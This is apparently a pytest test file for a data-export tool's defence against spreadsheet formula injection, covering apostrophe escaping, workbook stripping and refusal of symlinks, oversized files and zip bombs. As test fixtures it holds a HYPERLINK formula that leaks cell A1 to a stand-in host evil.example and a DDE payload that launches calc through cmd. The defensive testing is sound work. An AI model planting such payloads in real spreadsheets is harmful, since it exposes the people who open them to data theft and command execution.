"""The program that runs in the box: what comes out of it holds no formula, whatever went in (xl-1)."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from deepanalyze_cli.outputs import export

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1)'
DDE = "=cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def exported(work: Path, *names: str) -> list[dict[str, Any]]:
    """What the program says of tables in `work`, in a process of its own."""
    request = json.dumps({"into": ".export/0", "tables": names})
    command = [sys.executable, "-P", "-m", "deepanalyze_cli.outputs.export"]
    done = subprocess.run(command, cwd=work, input=request, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert [line.pop("table") for line in lines] == [*range(len(names))]
    return lines


def made_text(text: str) -> str:
    """The same for one text, in this process."""
    return export._apart(text, head=True)[0]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-A1", "'-A1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("a,=1", "a,'=1"),
        ("a;=1", "a;'=1"),
        ("a\t=1", "a\t'=1"),
        ("a|=1", "a|'=1"),
        ("a\r\n=1", "a\r\n'=1"),
        ("a\r=1", "a\r'=1"),
        ('a,"=1"', 'a,"\'=1"'),
        ('"a\n=1"', '"a\n\'=1"'),
        ("a,\t=1", "a,\t'=1"),
        (" =1", " '=1"),
        (", \"-cmd|' /C calc'!A0\"", ", \"'-cmd|' /C calc'!A0\""),
        ("＝1", "'＝1"),
        ('"-\nHYPERLINK(1)"', '"\'-\nHYPERLINK(1)"'),
        ('"-1\n*HYPERLINK(1)"', '"\'-1\n*HYPERLINK(1)"'),
        ("-1\t*HYPERLINK(1)", "'-1\t*HYPERLINK(1)"),
        ("\ufeff=1", "\ufeff'=1"),
        ("sep=^\na^=1", "'sep=^\na^=1"),
        ("ID;PWXL;N;E", "'ID;PWXL;N;E"),
        ("+49 170 1234", "'+49 170 1234"),
    ],
)
def test_what_begins_like_a_formula_is_set_apart(before: str, after: str):
    assert made_text(before) == after


@pytest.mark.parametrize(
    "text",
    [
        "a,b\n-1,+2\n-1.5e-7,1\n-1,234.5\n-12%\n-.5\n",
        '"-1,5";-2\n',
        "-,--,---\n-inf,-nan\n",
        "-\t-1\ttext\n",
        "-1.2,***,name (x)\n",
        "a=b,c-d,e@f.g,h+i\n",
        '"well, -that is","- an item\n- another"\n',
        "ID;name\n1;a\n",
        "-1",
        "",
        "\n\n",
    ],
)
def test_all_else_stays_as_it_is(text: str):
    assert made_text(text) == text


@given(
    st.lists(
        st.lists(
            st.lists(st.sampled_from([*DANGEROUS, '"', "'", ",", ";", "\t", "\n", "a(", "|", " ", "1", "."])).map(
                "".join
            ),
            min_size=1,
            max_size=4,
        ),
        max_size=4,
    ),
    st.sampled_from(",;\t|"),
)
def test_no_cell_that_any_reader_finds_calls_anything(rows: list[list[str]], delimiter: str):
    """Written in one dialect and read in another, as a spreadsheet of another country does."""
    stream = io.StringIO(newline="")
    csv.writer(stream, delimiter=delimiter).writerows(rows)
    text = made_text(stream.getvalue())
    assert made_text(text) == text
    for read in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=read):
            for cell in row:
                assert not re.match("[=＝]|[-+@＋－＠][^,;|]*[(]", cell), text


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "latin-1", "shift-jis"])
def test_encoding_and_dialect_are_kept(tmp_path: Path, encoding: str):
    name = "名前" if encoding == "shift-jis" else "Größe"
    text = f'"{name}";"x"\r\n"a";{HYPERLINK}\r\n-1;"{name}"\r\n' * 50_000
    (tmp_path / "a.csv").write_bytes(text.encode(encoding))
    assert exported(tmp_path, "a.csv") == [{"changed": 50_000}]
    copy = (tmp_path / ".export/0/0.csv").read_bytes()
    assert copy.decode(encoding) == text.replace("=H", "'=H")


def test_text_tables_that_are_refused(tmp_path: Path):
    secret = tmp_path.parent / "secret.csv"
    secret.write_text("secret")
    (tmp_path / "link.csv").symlink_to(secret)
    (tmp_path / "nul.csv").write_bytes(b"a\0b")
    (tmp_path / "line.csv").write_text("x" * (export.LINE + 2_000_000))
    (tmp_path / "odd.csv").write_bytes("x\n".encode("utf-16") + b"\0")
    with (tmp_path / "large.csv").open("wb") as file:
        file.truncate(export.MOST + 1)
    assert exported(tmp_path, "link.csv", "nul.csv", "line.csv", "odd.csv", "large.csv", "gone.tsv") == [
        {"refused": "it is a link, or a link leads to it"},
        {"refused": "it is no text"},
        {"refused": "it has a line of more than 1,000,000 characters"},
        {"refused": "it cannot be read (UnicodeDecodeError)"},
        {"refused": "it is of 50,000,001 bytes, more than 50,000,000"},
        {"refused": "it is gone"},
    ]


def hostile_workbook(path: Path) -> None:
    """Formulas, links, a comment, a macro's part, a sheet that is hidden."""
    from openpyxl.comments import Comment
    from openpyxl.worksheet.formula import ArrayFormula

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["=1+1", HYPERLINK, DDE, "@x", "+1", "-1", "\tx", "fine", 1, 2.5, True, None, "=" * 3])
    sheet["A2"] = "click"
    sheet["A2"].hyperlink = "http://evil.example/"
    sheet["B2"].comment = Comment("http://evil.example/", "x")
    sheet["C2"] = ArrayFormula("C2:C3", "=SUM(A1:A2)")
    sheet["D2"] = 0.5
    sheet["D2"].number_format = "0.00%"
    book.create_sheet("very hidden").sheet_state = "veryHidden"
    book.save(path)
    with zipfile.ZipFile(path, "a") as parts:
        parts.writestr("xl/vbaProject.bin", b"macro")


def test_a_workbook_keeps_its_values_only(tmp_path: Path):
    hostile_workbook(tmp_path / "a.xlsx")
    assert exported(tmp_path, "a.xlsx") == [{"changed": 5}]
    copy = tmp_path / ".export/0/0.xlsx"
    with zipfile.ZipFile(copy) as parts:
        names = {name: parts.read(name) for name in parts.namelist()}
    assert not [name for name in names if "vba" in name or "comment" in name or "external" in name]
    sheets = b"".join(part for name, part in names.items() if name.startswith("xl/worksheets"))
    assert not [tag for tag in (b"<f>", b"<f ", b"<hyperlink", b"<legacyDrawing") if tag in sheets]
    assert not any(b'Target="http' in part for part in names.values())
    sheet = openpyxl.load_workbook(copy).worksheets[0]
    first, second = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert first == ["=1+1", HYPERLINK, DDE, "@x", "+1", "-1", "\tx", "fine", 1, 2.5, True, None, "==="]
    assert second[:4] == ["click", None, "=SUM(A1:A2)", 0.5] and sheet["D2"].number_format == "0.00%"
    assert {sheet["A1"].data_type, sheet["C2"].data_type} == {"s"} and sheet["A2"].hyperlink is None


def test_workbooks_that_are_bombs(tmp_path: Path):
    book = openpyxl.Workbook()
    book.active["XFD1048576"] = "far"
    book.save(tmp_path / "far.xlsx")
    (tmp_path / "none.xlsx").write_bytes(b"PK\x03\x04 no workbook")
    (tmp_path / "html.xlsx").write_text("<html><table><tr><td>=1+1</td></tr></table></html>")
    with zipfile.ZipFile(tmp_path / "packed.xlsx", "w", zipfile.ZIP_DEFLATED) as parts, parts.open("x", "w") as part:
        for _ in range(201):
            part.write(bytes(1_000_000))
    hostile_workbook(tmp_path / "fine.xlsx")
    names = ("far.xlsx", "none.xlsx", "html.xlsx", "packed.xlsx", "fine.xlsx")
    assert exported(tmp_path, *names) == [
        {"refused": "it has more than 1,000,000 cells"},
        {"refused": "it cannot be read (BadZipFile)"},
        {"refused": "it cannot be read (BadZipFile)"},
        {"refused": "unpacked it is of more than 200,000,000 bytes"},
        {"changed": 5},
    ]
